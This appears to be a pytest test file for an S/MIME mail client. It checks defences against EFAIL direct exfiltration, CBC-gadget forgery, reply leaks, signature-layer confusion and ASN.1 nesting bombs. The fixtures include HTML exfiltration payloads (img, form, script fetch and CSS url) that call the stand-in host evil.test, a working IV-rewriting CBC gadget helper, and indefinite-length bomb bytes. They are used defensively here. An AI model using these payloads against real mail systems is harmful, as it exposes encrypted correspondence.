"""Encrypted mail that is after its reader's plaintext or after trust it has not earned.

EFAIL (USENIX Security 2018): direct exfiltration and CBC gadgets. Reply leaks (Müller et al., 2019).
Layers of RFC 2634, in the orders that may and that must not speak for the text.
"""

from __future__ import annotations

import random
from base64 import encodebytes
from datetime import UTC, datetime
from pathlib import Path

import pytest
from asn1crypto import cms as asn1

from client.crypto import cms
from client.crypto.enveloped import OpenedEnvelope, open_envelope
from client.crypto.keys import SigningKey
from client.crypto.mail_layers import find_envelope, shown_entity
from client.crypto.pkcs12 import open_pkcs12
from client.crypto.smime import verify_message
from client.errors import MessageNotOpened
from client.mime import builder
from client.mime.view import make_view
from client.model.account import Account, Endpoint, Identity, KeyRef
from client.model.address import MailAddress
from client.model.secret import Secret
from client.model.verdict import Coverage, Display, Indication, Reason, VerificationReport
from client.services import letters, letters_bench, reading_bench, workshop
from client.services.drafting import forward_of, reply_to
from client.services.new_draft import new_draft
from client.services.requests import KeyUse, TrustSources
from tests.fakes.pki import Holder, OfficePki
from tests.fakes.sealing import ENTITY, SECRET_WORD, seal, sealed_entity, sealed_mail

FROM_AN = b"From: an@example.gov.vn\r\n"
GCM, CBC = "aes-256-gcm", "aes-128-cbc"


@pytest.fixture(scope="module")
def reader(pki: OfficePki) -> Holder:
    return pki.person("Bình", "binh@example.gov.vn", usages=("digital_signature", "key_encipherment"))


@pytest.fixture(scope="module")
def key(reader: Holder) -> SigningKey:
    return open_pkcs12(reader.pkcs12("x"), Secret("x"))


@pytest.fixture(scope="module")
def an(pki: OfficePki) -> SigningKey:
    return open_pkcs12(pki.person("An", "an@example.gov.vn").pkcs12("x"), Secret("x"))


@pytest.fixture(scope="module")
def stranger(pki: OfficePki) -> SigningKey:
    return open_pkcs12(pki.person("Chi", "chi@example.gov.vn").pkcs12("x"), Secret("x"))


def _signed(entity: bytes, signer: SigningKey, pki: OfficePki) -> bytes:
    return builder.assemble_signed(b"", entity, cms.sign_mail(entity, signer, pki.now)).lstrip()


def _opaque(entity: bytes, signer: SigningKey, pki: OfficePki) -> bytes:
    info = asn1.ContentInfo.load(cms.sign_mail(entity, signer, pki.now))
    info["content"]["encap_content_info"] = {"content_type": "data", "content": entity}
    head = b"Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\n"
    body = encodebytes(info.dump()).replace(b"\n", b"\r\n")
    whole: bytes = head + b"Content-Transfer-Encoding: base64\r\n\r\n" + body
    return whole


def _open(raw: bytes, key: SigningKey) -> OpenedEnvelope:
    return open_envelope(find_envelope(raw), key)


def _judge(raw: bytes, key: SigningKey, pki: OfficePki) -> VerificationReport:
    return verify_message(raw, pki.demand(), opened=_open(raw, key))


# Layers ------------------------------------------------------------------------------------


@pytest.mark.parametrize("wrap", [_signed, _opaque])
@pytest.mark.parametrize("cipher", [GCM, CBC])
def test_signed_then_encrypted_is_decrypted_then_verified(
    wrap: object, cipher: str, reader: Holder, key: SigningKey, an: SigningKey, pki: OfficePki
) -> None:
    assert callable(wrap)
    raw = sealed_mail(seal(wrap(ENTITY, an, pki), reader, cipher=cipher))
    report = _judge(raw, key, pki)
    assert (report.display, report.coverage, report.reasons) == (Display.VALID, Coverage.WHOLE, ())
    assert report.encryption is not None
    assert report.encryption.opened
    assert SECRET_WORD in make_view(raw, shown_entity(raw, _open(raw, key))).text


def test_without_the_key_it_is_unknown_and_says_what_to_do(
    reader: Holder, an: SigningKey, pki: OfficePki
) -> None:
    report = verify_message(sealed_mail(seal(_signed(ENTITY, an, pki), reader)), pki.demand())
    assert (report.display, report.indication) == (Display.UNKNOWN, Indication.INDETERMINATE)
    assert report.reasons == (Reason.MESSAGE_ENCRYPTED,)
    assert report.encryption is not None
    assert (report.encryption.cipher, report.encryption.opened) == ("AES-128-CBC", False)


def test_what_is_signed_inside_by_somebody_else_is_no_letter_of_the_sender(
    reader: Holder, key: SigningKey, stranger: SigningKey, pki: OfficePki
) -> None:
    """Surreptitious forwarding: An's letter to Chi, sealed anew for Bình under another From."""
    report = _judge(sealed_mail(seal(_signed(ENTITY, stranger, pki), reader)), key, pki)
    assert report.display is Display.WARNING
    assert Reason.SIGNER_NOT_SENDER in report.reasons


def test_a_changed_letter_inside_is_invalid(
    reader: Holder, key: SigningKey, an: SigningKey, pki: OfficePki
) -> None:
    changed = _signed(ENTITY, an, pki).replace(b"4711", b"4712")
    assert _judge(sealed_mail(seal(changed, reader)), key, pki).display is Display.INVALID


@pytest.mark.parametrize("wrap", [_signed, _opaque])
def test_a_signature_over_the_ciphertext_says_nothing_of_the_text(
    wrap: object, reader: Holder, key: SigningKey, an: SigningKey, pki: OfficePki
) -> None:
    """Whoever carries the letter can take the outer signature off and put their own on."""
    assert callable(wrap)
    raw = FROM_AN + wrap(sealed_entity(seal(ENTITY, reader, cipher=GCM)), an, pki)
    report = _judge(raw, key, pki)
    assert report.display is Display.WARNING
    assert Reason.SIGNED_OVER_ENCRYPTION in report.reasons
    assert report.indication is Indication.NONE
    assert report.signatures[0].indication is Indication.INDETERMINATE


@pytest.mark.parametrize("outer", [_signed, _opaque])
@pytest.mark.parametrize("inner", [_signed, _opaque])
def test_a_triple_wrapped_letter_is_judged_layer_by_layer(
    outer: object,
    inner: object,
    reader: Holder,
    key: SigningKey,
    an: SigningKey,
    stranger: SigningKey,
    pki: OfficePki,
) -> None:
    assert callable(outer)
    assert callable(inner)

    def wrapped(inside: SigningKey, outside: SigningKey) -> bytes:
        whole: bytes = FROM_AN + outer(sealed_entity(seal(inner(ENTITY, inside, pki), reader)), outside, pki)
        return whole

    report = _judge(wrapped(an, an), key, pki)
    assert (report.display, len(report.signatures)) == (Display.VALID, 2)
    for inside, outside in ((stranger, an), (an, stranger)):
        report = _judge(wrapped(inside, outside), key, pki)
        assert report.display is Display.WARNING
        assert Reason.SIGNER_NOT_SENDER in report.reasons
    broken = wrapped(an, an)
    if outer is _signed:
        broken = broken.replace(b"enveloped-data;", b"enveloped-data ;")
        assert _judge(broken, key, pki).display is Display.INVALID


def test_an_unsigned_letter_under_a_cipher_that_notices_no_changes_says_so(
    reader: Holder, key: SigningKey, pki: OfficePki
) -> None:
    report = _judge(sealed_mail(seal(ENTITY, reader, cipher=CBC)), key, pki)
    assert (report.display, report.reasons) == (Display.NONE, (Reason.CIPHER_UNAUTHENTICATED,))
    report = _judge(sealed_mail(seal(ENTITY, reader, cipher=GCM)), key, pki)
    assert (report.display, report.reasons) == (Display.NONE, ())


def test_an_envelope_in_an_envelope_is_said_and_not_opened(
    reader: Holder, key: SigningKey, pki: OfficePki
) -> None:
    raw = sealed_mail(seal(sealed_entity(seal(ENTITY, reader)), reader))
    report = _judge(raw, key, pki)
    assert Reason.MESSAGE_ENCRYPTED in report.reasons
    assert SECRET_WORD not in make_view(raw, shown_entity(raw, _open(raw, key))).text


# EFAIL, direct exfiltration ----------------------------------------------------------------

BEFORE = b'Content-Type: text/html\r\n\r\n<img src="http://evil.test/?'
AFTER = b'Content-Type: text/html\r\n\r\n">'


def _mixed(*parts: bytes, kind: bytes = b"mixed") -> bytes:
    body = b"".join(b"--o\r\n" + part + b"\r\n" for part in parts) + b"--o--\r\n"
    return b"MIME-Version: 1.0\r\nContent-Type: multipart/" + kind + b"; boundary=o\r\n\r\n" + body


@pytest.mark.parametrize("kind", [b"mixed", b"related", b"alternative", b"signed"])
def test_an_encrypted_part_among_others_is_never_opened(
    kind: bytes, reader: Holder, an: SigningKey, pki: OfficePki
) -> None:
    secret = sealed_entity(seal(ENTITY, reader))
    for raw in (
        FROM_AN + _mixed(BEFORE, secret, AFTER, kind=kind),
        FROM_AN + _mixed(secret, kind=kind),
        FROM_AN + _mixed(_mixed(secret), ENTITY, kind=kind),
        FROM_AN + _signed(_mixed(BEFORE, secret, AFTER), an, pki),
        FROM_AN + b"Content-Type: message/rfc822\r\n\r\n" + sealed_mail(seal(ENTITY, reader)),
    ):
        assert find_envelope(raw) == b""
        view = make_view(raw)
        assert SECRET_WORD not in view.text + view.html
        assert "evil.test" not in view.html
        assert view.encryption is None


def test_that_a_part_is_encrypted_is_said(reader: Holder, pki: OfficePki) -> None:
    report = verify_message(
        FROM_AN + _mixed(BEFORE, sealed_entity(seal(ENTITY, reader)), AFTER), pki.demand()
    )
    assert report.reasons == (Reason.PARTLY_ENCRYPTED,)
    assert report.display is Display.UNKNOWN


def test_a_file_that_somebody_encrypted_is_an_attachment_like_any_other(
    reader: Holder, pki: OfficePki
) -> None:
    named = sealed_entity(seal(ENTITY, reader)).replace(b"smime.p7m", b"luong.xlsx.p7m")
    report = verify_message(FROM_AN + _mixed(ENTITY, named), pki.demand())
    assert report.display is Display.NONE


# EFAIL, CBC gadgets ------------------------------------------------------------------------


def _gadget(der: bytes, known: bytes, wanted: bytes) -> bytes:
    """Blocks of known plaintext turned into ``wanted``, without the key (EFAIL section 4.2)."""
    info = asn1.ContentInfo.load(der)
    content = info["content"]["encrypted_content_info"]
    first = content["encrypted_content"].native[:16]
    vector = content["content_encryption_algorithm"]["parameters"].native
    chosen = bytes(one ^ two ^ three for one, two, three in zip(vector, known, wanted, strict=True))
    content["encrypted_content"] = content["encrypted_content"].native
    content["content_encryption_algorithm"]["parameters"] = chosen
    assert first
    whole: bytes = info.dump(force=True)
    return whole


@pytest.fixture
def use(reader: Holder, tmp_path: Path) -> KeyUse:
    path = tmp_path / "binh.p12"
    path.write_bytes(reader.pkcs12("x"))
    return KeyUse(KeyRef("p12", str(path)), Secret("x"))


@pytest.fixture
def sources(pki: OfficePki, tmp_path: Path) -> TrustSources:
    (tmp_path / "root.pem").write_bytes(pki.root.certificate_pem)
    for number, crl in enumerate(pki.crls()):
        (tmp_path / f"{number}.crl").write_bytes(crl)
    return TrustSources((tmp_path / "root.pem",), tuple(tmp_path.glob("*.crl")))


def test_a_forged_first_block_makes_html_of_a_letter_and_it_is_shown_as_words_alone(
    reader: Holder, use: KeyUse, sources: TrustSources, pki: OfficePki
) -> None:
    html = b"Content-Type: text/html\r\n\r\n<b>4711</b> <a href='http://evil.test/?4711'>x</a>\r\n"
    changed = _gadget(seal(html, reader, cipher=CBC), html[:16], b"Content-TypE: te")
    opened = letters.open_letter(sealed_mail(changed), use, sources, pki.now)
    assert "4711" in opened.view.text
    assert opened.view.html == ""
    assert Reason.CIPHER_UNAUTHENTICATED in opened.report.reasons
    with pytest.raises(MessageNotOpened):
        letters.unseal(sealed_mail(_gadget(seal(ENTITY, reader), ENTITY[:16], b"\r\n\r\nxxxxxxxxxxxx")), use)


def test_html_of_a_part_that_seems_signed_is_words_too(
    reader: Holder, stranger: SigningKey, use: KeyUse, sources: TrustSources, pki: OfficePki
) -> None:
    html = b"Content-Type: text/html\r\n\r\n<a href='http://evil.test/?4711'>4711</a>\r\n"
    raw = sealed_mail(seal(_mixed(_signed(html, stranger, pki), ENTITY), reader, cipher=CBC))
    view = letters.open_letter(raw, use, sources, pki.now).view
    assert view.signed_part is not None
    assert (view.html, view.signed_part.html) == ("", "")
    assert "4711" in view.signed_part.text


def test_a_sealed_letter_with_a_secrecy_marking_is_frozen_when_it_opens(
    reader: Holder, an: SigningKey, use: KeyUse, sources: TrustSources, pki: OfficePki
) -> None:
    entity = "Content-Type: text/plain; charset=utf-8\r\n\r\nTUYỆT MẬT\r\nhoangsaomai\r\n".encode()
    raw = sealed_mail(seal(_signed(entity, an, pki), reader, cipher=GCM))
    opened = letters.open_letter(raw, use, sources, pki.now)
    assert opened.view.frozen
    assert "hoangsaomai" not in opened.view.text
    assert opened.report.signatures == ()
    with pytest.raises(Exception, match="no-such-part"):
        letters.letter_attachment("1")


@pytest.mark.parametrize("signed", [True, False])
def test_html_that_is_kept_whole_is_shown_without_anything_to_load(
    signed: bool, reader: Holder, an: SigningKey, use: KeyUse, sources: TrustSources, pki: OfficePki
) -> None:
    html = (
        b"Content-Type: text/html\r\n\r\n<b>4711</b><img src='http://evil.test/?a'>"
        b"<link rel=stylesheet href='//evil.test/b'><form action='http://evil.test/c'><input></form>"
        b"<script>fetch('http://evil.test/d')</script><div style='background:url(http://evil.test/e)'>\r\n"
    )
    inside = _signed(html, an, pki) if signed else html
    raw = sealed_mail(seal(inside, reader, cipher=CBC if signed else GCM))
    opened = letters.open_letter(raw, use, sources, pki.now)
    assert "<b>4711</b>" in opened.view.html
    assert "evil.test" not in opened.view.html
    assert opened.view.blocked_remote >= 3
    assert (opened.report.display is Display.VALID) == signed


@pytest.mark.parametrize("cipher", [GCM, CBC])
def test_pictures_of_an_opened_letter_are_drawn_where_its_html_is(
    cipher: str, reader: Holder, use: KeyUse, sources: TrustSources, pki: OfficePki
) -> None:
    """In a cipher that notices no changes the letter is words alone: then each picture is a file."""
    letter = b"--p\r\nContent-Type: text/html\r\n\r\n<img src='cid:a'>4711\r\n"
    letter += b"--p\r\nContent-Type: image/gif\r\nContent-ID: <a>\r\n\r\nGIF89a\r\n"
    related = b"Content-Type: multipart/related; boundary=p\r\n\r\n" + letter + b"--p--\r\n"
    nested = b"Content-Type: message/rfc822\r\n\r\nFrom: b@x.vn\r\n" + related
    whole = _mixed(related, nested)
    opened = letters.open_letter(sealed_mail(seal(whole, reader, cipher=cipher)), use, sources, pki.now)
    kept = cipher == GCM
    drawn = [one.section for one in opened.view.attachments if one.drawn]
    assert bool(drawn) == kept
    assert ("cid:" in opened.view.html) == kept
    (attached,) = opened.view.attached
    assert (bool(attached.html), bool(attached.pictures)) == (kept, kept)
    assert all(letters.letter_attachment(section) == b"GIF89a" for section in drawn)
    letters.close_letter()


def test_files_of_an_opaquely_signed_letter_can_be_saved(
    an: SigningKey, pki: OfficePki, tmp_path: Path
) -> None:
    """They are listed out of what the signature wraps, and so found there."""
    attached = _mixed(ENTITY, b"Content-Type: text/csv\r\nContent-Disposition: attachment\r\n\r\n4711")
    path = tmp_path / "thu.eml"
    path.write_bytes(FROM_AN + _opaque(attached, an, pki))
    (info,) = workshop.view(path).attachments
    assert workshop.attachment(path, info.section) == b"4711"
    assert reading_bench.picture(path, info.section) is None


# Bombs -------------------------------------------------------------------------------------


def _many_recipients(der: bytes, count: int) -> bytes:
    info = asn1.ContentInfo.load(der)
    (one,) = info["content"]["recipient_infos"]
    info["content"]["recipient_infos"] = asn1.RecipientInfos([one] * count)
    whole: bytes = info.dump(force=True)
    return whole


def test_an_envelope_for_the_whole_world_is_refused_and_one_for_a_big_office_is_not(
    reader: Holder, key: SigningKey, pki: OfficePki
) -> None:
    other = pki.person("Chi", "chi@example.gov.vn", usages=("key_encipherment",))
    der = seal(ENTITY, other)
    for count in (1500, 30_000):
        with pytest.raises(MessageNotOpened):
            open_envelope(_many_recipients(der, count), key)
    assert open_envelope(_many_recipients(seal(ENTITY, reader), 500), key).content == ENTITY


@pytest.mark.parametrize("nested", [b"\x30\x80", b"\xa0\x80", b"\x24\x80", b"\x31\x80"])
def test_an_envelope_of_nothing_but_nesting_is_damaged(
    nested: bytes, key: SigningKey, pki: OfficePki
) -> None:
    kind = asn1.ContentType("enveloped_data").dump()
    bomb = b"\x30\x80" + kind + b"\xa0\x80" + nested * 50_000
    with pytest.raises(MessageNotOpened):
        open_envelope(bomb, key)
    assert verify_message(sealed_mail(bomb), pki.demand()).reasons == (Reason.MESSAGE_ENCRYPTED,)


def test_no_damage_to_a_letter_raises_or_turns_green(
    reader: Holder, key: SigningKey, an: SigningKey, pki: OfficePki
) -> None:
    """Bytes changed, cut, doubled and moved about, the same ones in every run."""
    choice = random.Random(4711)  # noqa: S311 - no secret hangs on it
    sound = (
        sealed_mail(seal(_signed(ENTITY, an, pki), reader, cipher=GCM)),
        FROM_AN + _signed(sealed_entity(seal(_opaque(ENTITY, an, pki), reader)), an, pki),
        FROM_AN + _opaque(_signed(ENTITY, an, pki), an, pki),
    )
    for number in range(150):
        raw = bytearray(sound[number % len(sound)])
        body = raw.index(b"\r\n\r\n")
        for _ in range(choice.randint(1, 4)):
            at, end = sorted(choice.randrange(body, len(raw)) for _ in range(2))
            damage = choice.choice(("flip", "cut", "double", "zero"))
            if damage == "flip":
                raw[at] ^= 1 << choice.randrange(8)
            elif damage == "cut":
                del raw[at : min(end, at + 40)]
            elif damage == "double":
                raw[at:at] = raw[at : min(end, at + 200)]
            else:
                raw[at : at + 4] = bytes(4)
        _survives(bytes(raw), key, pki)


def _survives(raw: bytes, key: SigningKey, pki: OfficePki) -> None:
    envelope = find_envelope(raw)
    try:
        opened = open_envelope(envelope, key) if envelope else None
    except MessageNotOpened:
        opened = None
    report = verify_message(raw, pki.demand(), opened=opened)
    view = make_view(raw, shown_entity(raw, opened))
    if report.display is Display.VALID:
        # A byte that no reader looks at; the words are the words.
        assert "Mật khẩu họp: 4711" in view.text


# What stays behind -------------------------------------------------------------------------


def _account() -> Account:
    me = Identity(MailAddress("binh@example.gov.vn", "Bình"))
    return Account("a", me, Endpoint("imap.test", 993), Endpoint("smtp.test", 465), "binh")


def test_no_reply_and_no_forward_carries_what_was_encrypted(
    reader: Holder, key: SigningKey, an: SigningKey, pki: OfficePki
) -> None:
    """A forged letter may hide another's ciphertext and wait for the answer that quotes it."""
    secret = sealed_entity(seal(ENTITY, reader))
    hidden = secret.replace(b"attachment; filename=smime.p7m", b"inline")
    for raw in (
        sealed_mail(seal(ENTITY, reader)),
        sealed_mail(seal(_signed(ENTITY, an, pki), reader, cipher=GCM)),
        FROM_AN + _signed(secret, an, pki),
        FROM_AN + _opaque(secret, an, pki),
        FROM_AN + _mixed(b"Content-Type: text/plain\r\n\r\nBan co rao khong?", hidden),
        FROM_AN + _mixed(b"Content-Type: text/html\r\n\r\n<div style=display:none>", secret, AFTER),
    ):
        assert not find_envelope(raw) or SECRET_WORD in _open(raw, key).content.decode("utf-8", "replace")
        answer = reply_to(raw, _account(), new_draft(_account()), reply_all=True)
        assert SECRET_WORD not in answer.body
        assert answer.attachments == ()
        (passed_on,) = forward_of(raw, new_draft(_account())).attachments
        assert passed_on.content == raw


def test_the_open_letter_is_forgotten_when_it_is_closed_and_when_the_next_does_not_open(
    reader: Holder, use: KeyUse, sources: TrustSources, pki: OfficePki
) -> None:
    attached = _mixed(ENTITY, b"Content-Type: text/csv\r\nContent-Disposition: attachment\r\n\r\n4711")
    raw = sealed_mail(seal(attached, reader))
    opened = letters.open_letter(raw, use, sources, pki.now)
    (info,) = opened.view.attachments
    assert letters.letter_attachment(info.section) == b"4711"
    letters.close_letter()
    with pytest.raises(Exception, match="no-such-part"):
        letters.letter_attachment(info.section)
    letters.open_letter(raw, use, sources, pki.now)
    with pytest.raises(MessageNotOpened):
        letters.open_letter(FROM_AN + ENTITY, use, sources, pki.now)
    with pytest.raises(Exception, match="no-such-part"):
        letters.letter_attachment(info.section)


def test_what_opened_by_chance_to_garbage_is_damaged(
    reader: Holder, use: KeyUse, sources: TrustSources, pki: OfficePki
) -> None:
    for rubbish in (b"", b"4711", bytes(range(128, 256)), b"\r\n\r\n4711"):
        with pytest.raises(MessageNotOpened) as caught:
            letters.open_letter(sealed_mail(seal(rubbish, reader)), use, sources, pki.now)
        assert caught.value.params["reason"] == "damaged"


def test_the_view_of_a_closed_letter_says_that_it_is_encrypted(
    reader: Holder, an: SigningKey, pki: OfficePki
) -> None:
    der = seal(ENTITY, reader, cipher=GCM)
    for raw in (sealed_mail(der), FROM_AN + _signed(sealed_entity(der), an, pki)):
        view = letters_bench.view_of(raw)
        assert view.encryption is not None
        assert (view.encryption.cipher, view.encryption.opened) == ("AES-256-GCM", False)
        assert SECRET_WORD not in view.text
    assert letters_bench.view_of(FROM_AN + ENTITY).encryption is None


def test_nothing_of_an_open_letter_is_in_a_repr(
    reader: Holder, use: KeyUse, sources: TrustSources, pki: OfficePki
) -> None:
    opened = letters.open_letter(sealed_mail(seal(ENTITY, reader)), use, sources, pki.now)
    assert SECRET_WORD in opened.view.text
    assert SECRET_WORD not in repr(opened)
    letters.close_letter()


def test_a_date_hours_after_the_signing_is_seen(
    reader: Holder, key: SigningKey, an: SigningKey, pki: OfficePki
) -> None:
    """An old letter sealed and sent anew."""
    raw = sealed_mail(seal(_signed(ENTITY, an, pki), reader), FROM_AN + _two_hours_after(pki.now))
    assert Reason.SIGNING_TIME_DIFFERS in _judge(raw, key, pki).reasons


def _two_hours_after(moment: datetime) -> bytes:
    """A Date field two hours after ``moment``."""
    hour = moment.replace(microsecond=0).timestamp() + 7200
    return datetime.fromtimestamp(hour, UTC).strftime("Date: %a, %d %b %Y %H:%M:%S +0000\r\n").encode()
